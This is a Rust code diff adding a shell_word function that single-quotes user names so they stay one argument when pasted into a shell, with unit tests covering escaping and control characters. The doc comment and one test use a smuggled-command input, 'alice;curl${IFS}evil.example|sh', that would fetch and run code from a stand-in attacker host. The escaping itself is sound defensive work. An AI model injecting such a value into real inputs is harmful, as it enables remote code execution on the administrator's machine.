@@ -182,7 +182,7 @@ fn scoped_text(
         crate::regulation::Scope::Network => crate::regulation::network_of(client).to_string(),
         _ => crate::regulation::client_of(client).to_string(),
     };
-    let user: String = user.chars().filter(|c| !c.is_control()).take(64).collect();
+    let user = shell_word(user);
     t.args(
         key,
         &[
@@ -192,6 +192,22 @@ fn scoped_text(
             ("address", crate::i18n::Arg::Text(&address)),
         ],
     )
+}
+
+/// A user name as an administrator may paste it into a shell after the command a page names:
+/// as typed when it is plain, else in single quotes (a name is what a client typed, and
+/// `alice;curl …|sh` must stay one argument). Control characters dropped, 64 characters kept.
+pub fn shell_word(user: &str) -> String {
+    let user: String = user.chars().filter(|c| !c.is_control()).take(64).collect();
+    let plain = !user.is_empty()
+        && user
+            .chars()
+            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '@' | '+'));
+    if plain {
+        user
+    } else {
+        format!("'{}'", user.replace('\'', "'\\''"))
+    }
 }
 
 /// Adds `Retry-After` (seconds) to a 429.
@@ -223,4 +239,22 @@ pub fn api_locked(seconds: u64, now: i64) -> Response<Bytes> {
         "retry_after": seconds,
     });
     retry_after(json_response(StatusCode::TOO_MANY_REQUESTS, &body), seconds)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_word;
+
+    #[test]
+    fn a_name_in_a_command_stays_one_argument() {
+        assert_eq!(shell_word("alice"), "alice");
+        assert_eq!(shell_word("j.doe@example.com"), "j.doe@example.com");
+        assert_eq!(shell_word("cárol"), "cárol");
+        assert_eq!(
+            shell_word("alice;curl${IFS}evil.example|sh"),
+            "'alice;curl${IFS}evil.example|sh'"
+        );
+        assert_eq!(shell_word("o'brien"), "'o'\\''brien'");
+        assert_eq!(shell_word("a\u{1b}[2Jb"), "'a[2Jb'");
+    }
 }
